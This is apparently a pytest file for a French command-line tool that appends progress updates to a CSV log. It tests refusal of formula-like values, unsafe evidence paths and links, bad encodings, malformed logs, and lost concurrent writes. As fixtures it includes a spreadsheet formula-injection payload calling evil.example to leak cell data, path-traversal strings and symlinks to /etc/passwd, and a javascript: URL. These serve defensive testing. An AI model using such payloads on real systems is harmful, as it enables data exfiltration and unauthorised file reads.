"""Staff writes that cannot hurt: strict `ciso suivi ajouter`, a strictly read log, locked durable
appends, and downloads that no spreadsheet can run as formulas."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import sqlite3
import subprocess
import sys
import zipfile

import pytest
from ciso.build import build
from ciso.cli import cli
from ciso.spreadsheet import spreadsheet_row, spreadsheet_value
from ciso.statements import LOG_COLUMNS
from click.testing import CliRunner

CISO = [sys.executable, "-c", "from ciso.cli import main; main()"]
HEADER = ",".join(LOG_COLUMNS) + "\n"
FIRST = "2020-10-01,2020-2021,1.4.3,en_cours,30,Préparation du webinaire (inventé),,coordination\n"
UPDATE = ["2020-2021", "1.4.2", "en_cours", "--date", "2020-12-01"]
# Every start that spreadsheet software reads as a formula (OWASP), and the issue's own example.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def log(data_copy):
    path = data_copy / "suivi" / "mises-a-jour.csv"
    path.write_text(HEADER + FIRST, encoding="utf-8")
    return path


def ajouter(log, *args):
    return CliRunner().invoke(cli, ["suivi", "ajouter", *UPDATE, *args, "--data", str(log.parents[1])])


def assert_refused(log, args, message):
    before = sha256(log)
    result = ajouter(log, *args)
    assert result.exit_code == 1, result.output
    assert message in result.output
    assert "rien n'a été écrit" in result.output.lower()
    assert sha256(log) == before


# --- formulas ---------------------------------------------------------------------------------


@pytest.mark.parametrize("note", FORMULAS)
def test_formula_like_note_is_refused(log, note):
    assert_refused(log, ["--note", note], "« note » commence par")
    assert_refused(log, ["--note", note], "un tableur le prendrait pour une formule")


def test_formula_like_author_is_refused(log):
    assert_refused(log, ["--par", "=1+1"], "« par » commence par « = » : un tableur le prendrait pour une formule")


def test_spreadsheet_value_quotes_formula_like_text_only():
    assert [spreadsheet_value(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert spreadsheet_row(["a=1", "1-2", "", None, -5, 40, "Réalisé"]) == ["a=1", "1-2", "", None, -5, 40, "Réalisé"]


def read_csv(path, excel: bool) -> list[dict]:
    text = path.read_text(encoding="utf-8-sig" if excel else "utf-8")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))


def test_formula_like_sources_are_neutralised_in_excel_csv_and_exact_elsewhere(data_copy, tmp_path):
    """Values put straight into the sources (the log, a reference file): quoted in excel/, exact in csv/ and the zip."""
    themes = data_copy / "reference" / "themes.yml"
    original = "description: Accès à la protection sociale et aux soins de santé."
    assert original in themes.read_text(encoding="utf-8")
    themes.write_text(
        themes.read_text(encoding="utf-8").replace(original, f"description: '{FORMULAS[0]}'"), encoding="utf-8"
    )
    notes = [f for f in FORMULAS if "\r" not in f]  # a log line cannot hold a carriage return
    rows = io.StringIO()
    writer = csv.writer(rows, lineterminator="\n")
    for i, note in enumerate(notes):
        writer.writerow(["2020-12-01", "2020-2021", f"1.4.{i + 1}", "en_cours", "40", note, "", "=2+2"])
    (data_copy / "suivi" / "mises-a-jour.csv").write_text(HEADER + rows.getvalue(), encoding="utf-8")
    export = tmp_path / "export"
    build(data_copy, tmp_path / "ciso.db", export_dir=export)

    plain = [r for r in read_csv(export / "csv" / "suivi.csv", excel=False) if r["source"] == "mise_a_jour"]
    excel = [r for r in read_csv(export / "excel" / "suivi.csv", excel=True) if r["source"] == "mise_a_jour"]
    assert [r["note"] for r in plain] == notes and {r["par"] for r in plain} == {"=2+2"}
    assert [r["note"] for r in excel] == ["'" + n for n in notes] and {r["par"] for r in excel} == {"'=2+2"}
    assert {r["avancement"] for r in excel} == {"40"}  # numbers are left alone
    theme = next(r for r in read_csv(export / "excel" / "themes.csv", excel=True) if r["id"] == "protection-sociale")
    assert theme["description"] == "'" + FORMULAS[0]
    theme = next(r for r in read_csv(export / "csv" / "themes.csv", excel=False) if r["id"] == "protection-sociale")
    assert theme["description"] == FORMULAS[0]
    with zipfile.ZipFile(export / "ciso-donnees.zip") as bundle:
        assert bundle.read("csv/suivi.csv") == (export / "csv" / "suivi.csv").read_bytes()
    with sqlite3.connect(tmp_path / "ciso.db") as conn:
        stored = [r[0] for r in conn.execute("select note from suivi where source = 'mise_a_jour' order by ligne")]
    assert stored == notes


# --- --preuve, --avancement, encodings ----------------------------------------------------------


@pytest.fixture
def links(data_copy):
    """Symbolic links inside data/ that lead out of it."""
    (data_copy / "sortie").symlink_to("/etc/passwd")
    (data_copy / "dossier-sortant").symlink_to("/etc")
    (data_copy / "plan-lien").symlink_to(data_copy / "plans" / "plan-action-2020-2021.txt")
    return data_copy


@pytest.mark.parametrize(
    "preuve",
    [
        "/etc/passwd",
        "../../../../etc/passwd",
        "plans/../../../../../../etc/passwd",
        "sortie",
        "dossier-sortant/passwd",
        "ABSOLU",  # an absolute path, even inside data/
        "plans",  # a folder
        "plans/absent.pdf",
        "ftp://example.org/x",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "https://",
        "https:///chemin",
        "http://exemple .org/x",
        "https://example.org:99999/",
        "https://<script>/",
    ],
)
def test_preuve_outside_data_or_not_a_web_address_is_refused(log, links, preuve):
    if preuve == "ABSOLU":
        preuve = str(links / "plans" / "plan-action-2020-2021.txt")
    assert_refused(log, ["--preuve", preuve], f"preuve « {preuve} »")


@pytest.mark.parametrize(
    "preuve",
    [
        "https://example.org/lettre?id=3#p2",
        "http://127.0.0.1:8001/-/progres",
        "plans/plan-action-2020-2021.txt",
        "plan-lien",
    ],
)
def test_preuve_inside_data_or_a_web_address_is_accepted(log, links, preuve):
    result = ajouter(log, "--preuve", preuve)
    assert result.exit_code == 0, result.output
    assert log.read_text(encoding="utf-8").endswith(f",{preuve},équipe du CISO\n")


@pytest.mark.parametrize(
    "value", ["٤٠", " 40", "40 ", "+40", "1_0", "40.0", "101", "-1", "1e2", "0x10", "quarante", "½"]
)
def test_avancement_must_be_ascii_digits_from_0_to_100(log, value):
    assert_refused(log, ["--avancement", value], f"avancement « {value} » invalide")


@pytest.mark.parametrize("value,stored", [("040", "40"), ("0", "0"), ("100", "100"), ("007", "7")])
def test_avancement_is_stored_normalised(log, value, stored):
    result = ajouter(log, "--avancement", value)
    assert result.exit_code == 0, result.output
    assert log.read_text(encoding="utf-8").splitlines()[-1].split(",")[4] == stored


@pytest.mark.parametrize(
    "args,name",
    [
        ([*UPDATE, "--note", b"Caf\xe9 non UTF-8"], "note"),
        ([*UPDATE, "--par", b"\xff\xfe"], "par"),
        ([*UPDATE, "--preuve", b"https://example.org/\xe9"], "preuve"),
        ([b"2020-2021\xff", "1.4.2", "en_cours", "--date", "2020-12-01"], "plan"),
    ],
)
def test_non_utf8_argument_gets_a_french_error_and_no_traceback(log, args, name):
    before = sha256(log)
    done = subprocess.run(
        [*CISO, "suivi", "ajouter", *args, "--data", str(log.parents[1])], capture_output=True, timeout=60
    )
    stderr = done.stderr.decode("utf-8", "replace")
    assert done.returncode == 1
    assert f"Refusé : « {name} » n'est pas du texte UTF-8 valide" in stderr
    assert "Traceback" not in stderr
    assert sha256(log) == before


# --- the log, read strictly ------------------------------------------------------------------------

BROKEN_LOGS = {
    "extra-field": (FIRST.replace(",coordination", ",coordination,9e champ"), 2, "9 champs au lieu de 8"),
    "missing-field": (FIRST.replace(",coordination", ""), 2, "7 champs au lieu de 8"),
    "cut-in-quotes": (FIRST + '2020-11-20,2020-2021,1.4.3,reporte,,"Reporté à cause', 3, "guillemet non fermé"),
    "stray-quote": (FIRST.replace("Préparation du", '"Préparation" du'), 2, "guillemet non fermé ou mal placé"),
}


@pytest.fixture
def published(tmp_path):
    """A folder with a database and downloads built from the real sources."""
    from conftest import DATA

    folder = tmp_path / "site"
    build(DATA, folder / "ciso.db", export_dir=folder / "export")
    return folder


@pytest.mark.parametrize("case", BROKEN_LOGS)
def test_broken_log_fails_the_build_with_its_line_and_publishes_nothing(log, published, case):
    body, line, message = BROKEN_LOGS[case]
    log.write_text(HEADER + body, encoding="utf-8")
    before = {p: sha256(p) for p in published.rglob("*") if p.is_file()}
    result = CliRunner().invoke(
        cli, ["build", "--data", str(log.parents[1]), "--db", str(published / "ciso.db")], catch_exceptions=False
    )
    assert result.exit_code == 1
    assert f"{log}:{line}: {message}" in result.output
    assert "rien n'a été écrit" in result.output
    assert {p: sha256(p) for p in published.rglob("*") if p.is_file()} == before
    assert_refused(log, [], f"{log}:{line}: {message}")  # and no update goes on top of a broken log


def test_update_after_a_last_line_without_newline_starts_a_new_line(log):
    log.write_text(HEADER + FIRST.rstrip("\n"), encoding="utf-8")
    result = ajouter(log, "--note", "Suite")
    assert result.exit_code == 0, result.output
    assert (
        log.read_text(encoding="utf-8")
        == HEADER + FIRST + "2020-12-01,2020-2021,1.4.2,en_cours,,Suite,,équipe du CISO\n"
    )


# --- concurrent writers --------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["no-log-yet", "existing-log"])
def test_twenty_concurrent_updates_are_all_kept(data_copy, tmp_path, start):
    log = data_copy / "suivi" / "mises-a-jour.csv"
    if start == "no-log-yet":
        log.unlink()
    else:
        log.write_text(HEADER + FIRST, encoding="utf-8")
    notes = [f"Mise à jour simultanée n° {i}" for i in range(20)]
    processes = [
        subprocess.Popen(
            [*CISO, "suivi", "ajouter", *UPDATE, "--note", note, "--data", str(data_copy)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
        )
        for note in notes
    ]
    outputs = [p.communicate(timeout=120) for p in processes]
    assert [p.returncode for p in processes] == [0] * 20, [e.decode() for _, e in outputs]
    lines = log.read_text(encoding="utf-8").splitlines()
    assert lines[0] == HEADER.strip() and lines.count(HEADER.strip()) == 1
    assert sorted(line.split(",")[5] for line in lines if "simultanée" in line) == sorted(notes)
    db = tmp_path / "ciso.db"
    build(data_copy, db)
    with sqlite3.connect(db) as conn:
        published = {r[0] for r in conn.execute("select note from suivi where note like 'Mise à jour simultanée%'")}
    assert published == set(notes)


def test_ajouter_waits_for_the_lock_before_reading_the_log(log):
    """Read → check → write happens under an exclusive flock on the lock file beside the log."""
    import fcntl
    import time

    before = sha256(log)
    with open(log.with_name(f".{log.name}.lock"), "a+") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        waiting = subprocess.Popen(
            [*CISO, "suivi", "ajouter", *UPDATE, "--note", "Après le verrou", "--data", str(log.parents[1])],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        time.sleep(3)
        assert waiting.poll() is None and sha256(log) == before  # blocked, nothing written
        log.write_text(HEADER + FIRST + FIRST, encoding="utf-8")  # a write it must see once the lock is free
    _, err = waiting.communicate(timeout=60)
    assert waiting.returncode == 0, err.decode()
    assert log.read_text(encoding="utf-8").splitlines()[1:] == [
        FIRST.strip(),
        FIRST.strip(),
        "2020-12-01,2020-2021,1.4.2,en_cours,,Après le verrou,,équipe du CISO",
    ]
